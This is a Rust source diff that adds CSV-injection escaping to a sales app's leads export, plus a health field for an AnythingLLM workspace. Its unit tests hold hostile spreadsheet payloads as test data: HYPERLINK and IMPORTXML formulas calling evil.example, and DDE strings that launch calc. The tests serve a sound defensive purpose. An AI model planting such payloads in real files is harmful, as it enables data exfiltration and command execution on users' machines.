@@ -345,7 +345,22 @@ async fn leads(_user: ApiUser, State(state): State<WebState>) -> Response {
     }
 }
 
-/// The leads as CSV: one row per lead, each target's status in one column.
+/// A cell of text from outside (a prospect's name or words, a tracker's error) made safe to open
+/// in a spreadsheet: one starting with `=`, `+`, `-`, `@`, a tab or a carriage return would be
+/// read as a formula (`=HYPERLINK(…)`, `@SUM(…)`, DDE), so it gets a leading `'`, as OWASP's CSV
+/// injection guidance advises. The quote shows in the cell; the text is otherwise unchanged.
+pub fn spreadsheet_safe(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{text}"))
+    } else {
+        std::borrow::Cow::Borrowed(text)
+    }
+}
+
+/// The leads as CSV: one row per lead, each target's status in one column. Every cell of text
+/// is [`spreadsheet_safe`]; ids, times, the channel, the E.164 phone (a `+` and digits only,
+/// which a spreadsheet can only read as a number) and `qualified` are Closer's own and kept
+/// as they are.
 ///
 /// # Errors
 /// The CSV writer failing (it writes to memory, so only on a bug).
@@ -391,28 +406,31 @@ pub fn leads_as_csv(leads: &[(Lead, Vec<OutboxEntry>)]) -> Result<Vec<u8>, csv::
                 status
             })
             .collect();
+        let text = |value: &str| spreadsheet_safe(value).into_owned();
         writer.write_record([
             lead.id.to_string(),
             lead.created_at.to_rfc3339(),
             lead.channel.as_str().to_owned(),
-            contact.name.clone().unwrap_or_default(),
+            text(contact.name.as_deref().unwrap_or_default()),
             contact
                 .phone
                 .as_ref()
                 .map(ToString::to_string)
                 .unwrap_or_default(),
-            contact
-                .email
-                .as_ref()
-                .map(ToString::to_string)
-                .unwrap_or_default(),
-            contact.company.clone().unwrap_or_default(),
+            text(
+                &contact
+                    .email
+                    .as_ref()
+                    .map(ToString::to_string)
+                    .unwrap_or_default(),
+            ),
+            text(contact.company.as_deref().unwrap_or_default()),
             lead.details.qualified.to_string(),
-            lead.details.summary.clone(),
-            objections.join(" "),
-            lead.source_campaign.clone().unwrap_or_default(),
+            text(&lead.details.summary),
+            text(&objections.join(" ")),
+            text(lead.source_campaign.as_deref().unwrap_or_default()),
             lead.conversation_id.to_string(),
-            handoffs.join("; "),
+            text(&handoffs.join("; ")),
         ])?;
     }
     writer
@@ -543,7 +561,7 @@ async fn sync_status(_user: ApiUser, State(state): State<WebState>) -> Response 
     }
 }
 
-/// `POST /api/knowledge/sync`: starts a sync in the background (202); its progress is in
+/// `POST /api/knowledge/sync`: asks for a sync in the background (202); its progress is in
 /// `GET /api/knowledge/sync`.
 async fn sync_now(_user: ApiUser, State(state): State<WebState>) -> Response {
     match crate::sync::start(&state) {
@@ -673,6 +691,9 @@ pub struct Health {
     /// Updates and events a channel could not process, newest first.
     #[serde(default)]
     pub dead_letters: Vec<DeadLetterRow>,
+    /// The AnythingLLM workspace, when configured: whether it answers prospects now.
+    #[serde(default)]
+    pub anythingllm: Option<crate::sync::WorkspaceHealth>,
 }
 
 /// A dead letter as the health page and `/api/health` show it (the payload stays in the store:
@@ -765,6 +786,7 @@ pub async fn health_report(state: &WebState) -> Health {
         database,
         database_error,
         dead_letters,
+        anythingllm: state.engine.workspace_sync().map(|sync| sync.health()),
         channels: channels
             .into_iter()
             .map(|deliveries| ChannelRow {
@@ -787,4 +809,82 @@ pub async fn health_report(state: &WebState) -> Health {
 
 async fn health(_user: ApiUser, State(state): State<WebState>) -> Response {
     Json(health_report(&state).await).into_response()
+}
+
+#[cfg(test)]
+mod tests {
+    use closer_model::{Contact, NewLead, Phone};
+
+    use super::*;
+
+    #[test]
+    fn a_cell_that_would_be_a_formula_is_quoted() {
+        for (text, shown) in [
+            (
+                "=HYPERLINK(\"http://evil.example\",\"x\")",
+                "'=HYPERLINK(\"http://evil.example\",\"x\")",
+            ),
+            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+            ("\t=1+1", "'\t=1+1"),
+            ("\r=1+1", "'\r=1+1"),
+            ("Иван Петров", "Иван Петров"),
+            ("a = b", "a = b"),
+            ("", ""),
+        ] {
+            assert_eq!(spreadsheet_safe(text), shown, "{text:?}");
+        }
+    }
+
+    #[test]
+    fn the_leads_export_neutralises_formulas_in_what_prospects_wrote() {
+        let lead = Lead {
+            id: Uuid::nil(),
+            conversation_id: Uuid::nil(),
+            channel: Channel::Web,
+            source_campaign: Some("@campaign".to_owned()),
+            details: NewLead {
+                contact: Contact {
+                    name: Some("=cmd|' /C calc'!A0".to_owned()),
+                    phone: Some(Phone::parse("+7 903 123-45-67").expect("a phone")),
+                    email: None,
+                    company: Some("-1+1".to_owned()),
+                },
+                summary: "+IMPORTXML(\"http://evil.example\",\"//a\")".to_owned(),
+                ..NewLead::default()
+            },
+            created_at: chrono::DateTime::UNIX_EPOCH,
+        };
+        let bytes = leads_as_csv(&[(lead, Vec::new())]).expect("CSV");
+        let mut reader = csv::Reader::from_reader(bytes.as_slice());
+        let headers = reader.headers().expect("headers").clone();
+        let row = reader.records().next().expect("a row").expect("a record");
+        let cell = |name: &str| {
+            let index = headers
+                .iter()
+                .position(|header| header == name)
+                .expect("a column");
+            row[index].to_owned()
+        };
+        assert_eq!(cell("name"), "'=cmd|' /C calc'!A0");
+        assert_eq!(cell("company"), "'-1+1");
+        assert_eq!(
+            cell("summary"),
+            "'+IMPORTXML(\"http://evil.example\",\"//a\")"
+        );
+        assert_eq!(cell("campaign"), "'@campaign");
+        assert_eq!(
+            cell("phone"),
+            "+79031234567",
+            "an E.164 number stays a number"
+        );
+        for value in row.iter() {
+            assert!(
+                !value.starts_with(['=', '-', '@', '\t', '\r'])
+                    && (!value.starts_with('+') || value == "+79031234567"),
+                "{value:?} reaches a spreadsheet as a formula"
+            );
+        }
+    }
 }
